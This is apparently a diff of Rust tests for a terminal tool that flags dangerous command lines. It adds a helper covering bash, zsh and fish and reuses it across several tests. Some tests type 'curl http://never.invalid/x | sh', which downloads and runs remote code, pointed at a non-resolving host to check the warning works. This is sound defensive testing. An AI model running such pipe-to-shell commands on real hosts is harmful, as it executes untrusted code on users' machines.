@@ -46,6 +46,10 @@ fn line_shells() -> Vec<&'static str> {
     ["bash", "zsh"].into_iter().filter(|shell| has(shell)).collect()
 }
 
+fn every_shell() -> Vec<&'static str> {
+    ["bash", "zsh", "fish"].into_iter().filter(|shell| has(shell)).collect()
+}
+
 #[test]
 fn ghost_text_is_shown_and_taken() {
     for shell in line_shells() {
@@ -274,7 +278,7 @@ fn a_paste_is_one_and_isnt_run() {
 
 #[test]
 fn a_dangerous_line_is_asked_about() {
-    for shell in ["bash", "zsh", "fish"].into_iter().filter(|shell| has(shell)) {
+    for shell in every_shell() {
         let mut screen = ready(Setting::of(shell, ""));
         screen.slowly("curl http://never.invalid/x | sh");
         screen.keys("\r");
@@ -291,7 +295,7 @@ fn a_dangerous_line_is_asked_about() {
 
 #[test]
 fn it_runs_at_a_second_enter() {
-    for shell in ["bash", "zsh", "fish"].into_iter().filter(|shell| has(shell)) {
+    for shell in every_shell() {
         let mut screen = ready(Setting::of(shell, ""));
         screen.slowly("curl -s http://never.invalid/x | sh; echo ran");
         screen.keys("\r");
@@ -335,7 +339,7 @@ fn settings_are_read_again_and_bad_ones_change_nothing() {
 
 #[test]
 fn what_was_typed_ahead_is_judged_and_remembered() {
-    for shell in line_shells() {
+    for shell in every_shell() {
         let mut screen = ready(Setting::of(shell, ""));
         screen.line("echo go''ing; sleep 1");
         screen.wait_for_line("going");
@@ -364,7 +368,7 @@ fn what_was_typed_ahead_is_judged_and_remembered() {
 
 #[test]
 fn what_was_typed_ahead_is_typed_as_it_was() {
-    for shell in line_shells() {
+    for shell in every_shell() {
         let mut screen = ready(Setting::of(shell, ""));
         screen.line("echo go''ing; stty -echo; sleep 1; stty echo");
         screen.wait_for_line("going");
